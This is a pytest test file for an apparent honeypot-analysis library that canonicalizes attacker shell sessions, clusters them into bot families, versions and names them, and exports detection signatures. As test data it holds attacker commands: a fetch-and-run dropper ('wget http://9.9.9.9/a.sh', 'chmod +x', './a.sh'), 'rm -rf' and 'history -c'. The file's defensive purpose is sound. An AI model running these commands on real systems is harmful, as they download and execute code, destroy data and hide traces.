import itertools
import json

import numpy as np
import pytest
from hypothesis import given, settings, strategies as st

from honeyloop.chains import (
    CYCLE,
    NAME_RE,
    BotName,
    CanonicalChain,
    ChainThresholds,
    Family,
    FamilyStore,
    LabeledGraph,
    VersionTuple,
    assign_version,
    bump_kind,
    canonicalize,
    chain_graph,
    chain_similarity,
    cluster_assign,
    common_subsequence,
    dtw_distance,
    export_signature,
    export_store,
    format_name,
    graph_edit_distance,
    make_chain,
    merge_retries,
    normalize_action,
    parse_name,
    split_actions,
)
from honeyloop.errors import ConsistencyError, FormatError, GraphTooLargeError, PreconditionError, ValidationError
from honeyloop.events import InteractionLog
from oracles import brute_force_ged, dtw_reference, random_graph

WORDS = ["ls", "cd /tmp", "uname -a", "wget http://9.9.9.9/a.sh", "chmod +x a.sh", "./a.sh", "cat /proc/cpuinfo",
         "echo 1234567", "busybox ps", "rm -rf /home/bob/x"]


def logs(*commands, t0=0):
    return [InteractionLog(t0 + 10 * i, "5.5.5.5", c) for i, c in enumerate(commands)]


def test_normalization_masks():
    assert normalize_action("WGET http://1.2.3.4/x.sh") == "wget <url>"
    assert normalize_action("ping 10.0.0.1") == "ping <ip>"
    assert normalize_action("echo deadbeefcafe") == "echo <hex>"
    assert normalize_action("cat /home/alice/.ssh/id") == "cat <home>/.ssh/id"
    assert normalize_action("kill 31337") == "kill <n>"
    assert normalize_action("date 2024-01-02 10:11:12 ok") == "date ok"


def test_split_actions():
    assert split_actions("cd /tmp; wget x && chmod +x y || echo no") == ["cd /tmp", "wget x", "chmod +x y", "echo no"]
    assert split_actions("cat a | grep b") == ["cat a | grep b"]


def test_retry_merge_example():
    chain = canonicalize(logs("wget http://1.2.3.4/x.sh", "wget http://1.2.3.4/x.sh"))
    assert chain.tokens == ("wget <url>",)


def test_loop_compression_example():
    assert canonicalize(logs(*["ls"] * 6)).tokens == ("ls", CYCLE)
    assert canonicalize(["a", "b", "a", "b", "a", "b", "c"]).tokens == ("a", "b", CYCLE, "c")
    assert canonicalize(["a", "b", "a", "b", "c"]).tokens == ("a", "b", "a", "b", "c")


def test_canonicalize_errors():
    with pytest.raises(PreconditionError):
        canonicalize([])
    with pytest.raises(PreconditionError):
        canonicalize([InteractionLog(5, "x", "ls"), InteractionLog(4, "x", "pwd")])
    with pytest.raises(PreconditionError):
        canonicalize(["   ", ";"])


def test_graph_nodes_are_tokens_plus_resources():
    chain = canonicalize(["wget http://a/b", "chmod +x /tmp/b", "/tmp/b"])
    assert set(chain.graph.nodes) == set(chain.tokens) | {"res:<url>", "res:/tmp/b"}
    labels = {chain.graph.nodes[v]: labs for (u, v), labs in chain.graph.edges.items()}
    assert labels["res:<url>"] == ("uses",)


@settings(max_examples=60, deadline=None)
@given(st.lists(st.sampled_from(WORDS + ["ls; ls", "ls && ls"]), min_size=1, max_size=25))
def test_canonicalize_is_idempotent(commands):
    once = canonicalize(commands)
    twice = canonicalize(once)
    assert twice.tokens == once.tokens and twice.graph == once.graph
    assert canonicalize(list(once.tokens)).tokens == once.tokens


def test_similarity_examples():
    a = make_chain(["s1", "s2", "s3", "s4"])
    assert chain_similarity(a, a) == (0, 0)
    assert chain_similarity(a, make_chain(["s1", "x", "s3", "s4"]))[0] == 1
    longer = make_chain(["s1", "s2", "s3", "s4", "s5"])
    assert chain_similarity(a, longer) == (1, 2)


def test_dtw_matches_reference_and_bounds():
    rng = np.random.default_rng(1)
    for _ in range(300):
        a = list(rng.choice(list("abcd"), size=rng.integers(0, 8)))
        b = list(rng.choice(list("abcd"), size=rng.integers(0, 8)))
        d = dtw_distance(a, b)
        assert d == dtw_reference(a, b) == dtw_distance(b, a)
        assert 0 <= d <= len(a) + len(b)
        # on retry-merged sequences, zero distance means equality
        ma, mb = merge_retries(a), merge_retries(b)
        assert (dtw_distance(ma, mb) == 0) == (ma == mb)


def test_ged_against_brute_force():
    rng = np.random.default_rng(2)
    for _ in range(60):
        a, b = random_graph(rng, 5), random_graph(rng, 5)
        g = graph_edit_distance(LabeledGraph(*a), LabeledGraph(*b))
        assert g == brute_force_ged(*a, *b)
        assert g == graph_edit_distance(LabeledGraph(*b), LabeledGraph(*a))


def test_ged_on_chain_graphs_against_brute_force():
    rng = np.random.default_rng(3)
    for _ in range(40):
        ta = list(rng.choice(["wget <url>", "ls", "cd /tmp", "sh"], size=rng.integers(1, 5)))
        tb = list(rng.choice(["wget <url>", "ls", "cat /tmp/x", "sh"], size=rng.integers(1, 5)))
        ga, gb = chain_graph(canonicalize(ta).tokens), chain_graph(canonicalize(tb).tokens)
        if max(len(ga), len(gb)) > 6:
            continue
        assert graph_edit_distance(ga, gb) == brute_force_ged(ga.nodes, ga.edges, gb.nodes, gb.edges)


def test_ged_identity_and_cutoff():
    g = chain_graph([f"t{i}" for i in range(10)])
    h = chain_graph([f"u{i}" for i in range(10)])
    assert graph_edit_distance(g, g) == 0
    exact = graph_edit_distance(g, h)
    assert exact == 10
    assert graph_edit_distance(g, h, cutoff=3) > 3
    assert graph_edit_distance(g, h, cutoff=12) == exact


def test_ged_size_limit():
    big = chain_graph([f"t{i}" for i in range(26)])
    with pytest.raises(GraphTooLargeError):
        graph_edit_distance(big, big)


def test_version_bumps():
    v = VersionTuple(2, 1, 3)
    th = ChainThresholds()
    assert v.bump(bump_kind(0, 4, th)) == (3, 0, 0)
    assert v.bump(bump_kind(2, 3, th)) == (2, 2, 0)
    assert v.bump(bump_kind(1, 3, th)) == (2, 1, 4)
    assert v.bump(bump_kind(0, 0, th)) == v
    assert str(v) == "2.1.3" and VersionTuple.parse("2.1.3") == v
    with pytest.raises(FormatError):
        VersionTuple.parse("2.1")
    with pytest.raises(ValidationError):
        v.bump("huge")


def family_at(tokens, version=(2, 1, 3)):
    base = make_chain(tokens, proto="TELNET", dest_port=23)
    fam = Family(0, [base], members=3, family_id="basekit1", version=VersionTuple(*version))
    fam.observe(base)
    return fam


BASE = ["enable", "system", "shell", "sh", "busybox mirai"]


@pytest.mark.parametrize("variant, expected", [
    (BASE, (2, 1, 3)),
    (["enable", "system", "shell", "sh", "busybox x"], (2, 1, 4)),
    (["enable", "x", "shell", "y", "busybox mirai"], (2, 2, 0)),
    (BASE + ["cd /tmp", "wget <url>"], (3, 0, 0)),
])
def test_assign_version(variant, expected):
    fam = family_at(BASE)
    assert assign_version(make_chain(variant), fam) == expected


def test_version_sequence_is_monotone():
    fam = family_at(BASE, (1, 0, 0))
    seen = [fam.version]
    rng = np.random.default_rng(4)
    for _ in range(15):
        toks = list(BASE)
        for _ in range(int(rng.integers(0, 4))):
            toks.insert(int(rng.integers(0, len(toks) + 1)), f"step{int(rng.integers(0, 6))}")
        seen.append(assign_version(make_chain(toks), fam))
    assert seen == sorted(seen)
    assert len(fam.representatives) <= ChainThresholds().max_representatives


def test_assign_version_needs_promoted_family():
    with pytest.raises(PreconditionError):
        assign_version(make_chain(["ls"]), Family(0, [make_chain(["ls"])]))


def test_promotion_on_third_member():
    store = FamilyStore()
    chain = canonicalize(["enable", "system", "shell", "sh"], proto="TELNET")
    first = cluster_assign(chain, store)
    assert first.family_id is None and first.distance is None
    assert cluster_assign(chain, store).family_id is None
    third = cluster_assign(chain, store)
    assert third.promoted_now and third.family_id == "enablekit1"
    assert store.get("enablekit1").version == (1, 0, 0)


def test_distant_chain_opens_new_cluster():
    store = FamilyStore()
    cluster_assign(make_chain(["a1", "a2", "a3"]), store)
    res = cluster_assign(make_chain([f"z{i}" for i in range(9)]), store)
    assert res.cluster_id == 1 and len(store.clusters) == 2


SEPARATED = {
    "mirai": ["enable", "system", "shell", "sh", "busybox mirai", "cat /proc/mounts"],
    "dropper": ["cd /tmp", "wget <url>", "chmod +x x", "./x", "rm x", "history -c"],
    "recon": ["uname -a", "cat /proc/cpuinfo", "free -m", "nproc", "lscpu", "w"],
}


def separated_corpus():
    chains = []
    for name, toks in SEPARATED.items():
        chains.append((name, make_chain(toks)))
        chains.append((name, make_chain(toks[:-1] + ["exit"])))
        chains.append((name, make_chain(toks + ["sleep <n>"])))
    return chains


def partition(chains, order):
    store = FamilyStore()
    groups = {}
    for i in order:
        res = cluster_assign(chains[i][1], store)
        groups.setdefault(res.cluster_id, set()).add(i)
    return {frozenset(g) for g in groups.values()}


def test_clustering_is_order_insensitive():
    chains = separated_corpus()
    truth = {frozenset(i for i, (n, _) in enumerate(chains) if n == name) for name in SEPARATED}
    rng = np.random.default_rng(5)
    orders = [list(range(9)), list(range(8, -1, -1))] + [list(rng.permutation(9)) for _ in range(20)]
    for order in orders:
        assert partition(chains, order) == truth


def test_worked_name_roundtrip():
    name = "ADLAH.BOT.mirailike.TELNET.bruteforce.linux:2.1.0"
    parsed = parse_name(name)
    assert parsed == BotName("mirailike", "TELNET", "bruteforce", "linux", VersionTuple(2, 1, 0))
    assert format_name(parsed) == name
    assert NAME_RE.match(name)


def test_format_name_rules():
    assert format_name(BotName("x1", "SSH", "wget", "", VersionTuple(1, 0, 0))).endswith(".unknown:1.0.0")
    with pytest.raises(FormatError):
        format_name(BotName("Mirai", "TELNET", "a", "linux", VersionTuple()))
    with pytest.raises(FormatError):
        format_name(BotName("m", "telnet", "a", "linux", VersionTuple()))
    with pytest.raises(FormatError):
        parse_name("ADLAH.BOT.m.TELNET.a.linux:1.0")


def test_family_name_fields():
    fam = family_at(["enable", "uname -a linux", "sh"])
    name = format_name(fam)
    assert name == "ADLAH.BOT.basekit1.TELNET.enable.linux:2.1.3"
    assert NAME_RE.match(name)


def test_common_subsequence():
    assert common_subsequence([["a", "b", "c", "d"], ["a", "x", "b", "d"], ["b", "a", "b", "d"]]) == ["a", "b", "d"]
    assert common_subsequence([["a", "b"]]) == ["a", "b"]
    assert common_subsequence([["a"], ["b"]]) == []


def brute_lcs_length(seqs):
    best = 0
    first = seqs[0]
    for r in range(len(first) + 1):
        for combo in itertools.combinations(first, r):
            if all(is_subsequence(combo, s) for s in seqs[1:]):
                best = max(best, r)
    return best


def is_subsequence(sub, seq):
    it = iter(seq)
    return all(tok in it for tok in sub)


@settings(max_examples=60, deadline=None)
@given(st.lists(st.lists(st.sampled_from("abc"), max_size=7), min_size=2, max_size=4))
def test_common_subsequence_is_longest(seqs):
    out = common_subsequence(seqs)
    assert all(is_subsequence(out, s) for s in seqs)
    assert len(out) == brute_lcs_length(seqs)


def test_signature_examples():
    fam = family_at(["wget <url>", "chmod", "exec", "rm"])
    fam.add_representative(make_chain(["wget <url>", "chmod", "exec", "sleep"]), 5)
    sig = export_signature(fam)
    assert sig["rule"] == ["wget <url>", "chmod", "exec"] and sig["warning"] is None
    assert sig["ports"] == [23] and sig["proto"] == "TELNET"
    single = family_at(["ls", "pwd"])
    assert export_signature(single)["rule"] == ["ls", "pwd"]
    disjoint = family_at(["ls"])
    disjoint.add_representative(make_chain(["pwd"]), 5)
    assert export_signature(disjoint)["rule"] == [] and export_signature(disjoint)["warning"]


def test_store_roundtrip(tmp_path):
    store = FamilyStore()
    for name, chain in separated_corpus():
        store.ingest(chain)
    store.ingest(make_chain(SEPARATED["mirai"] + ["sleep", "reboot"]))
    path = store.save(tmp_path / "families.json")
    back = FamilyStore.load(path)
    assert back.dumps() == store.dumps()
    names, records = export_store(back)
    assert names == export_store(store)[0]
    assert all(NAME_RE.match(n) for n in names)
    assert [json.loads(r)["name"] for r in records] == names


def test_store_rejects_tampering(tmp_path):
    store = FamilyStore()
    for _ in range(3):
        store.ingest(make_chain(["a", "b"]))
    d = store.to_dict()
    d["clusters"][0]["representatives"][0]["adjacency"] = []
    with pytest.raises(ConsistencyError):
        FamilyStore.from_dict(d)
    with pytest.raises(FormatError):
        FamilyStore.from_dict({**store.to_dict(), "format": "other"})


def test_chain_dict_roundtrip():
    chain = canonicalize(logs(*WORDS), sessions=("s1",), proto="SSH", dest_port=22)
    assert CanonicalChain.from_dict(chain.to_dict()) == chain
    assert chain.first_seen == 0 and chain.verb == "ls"
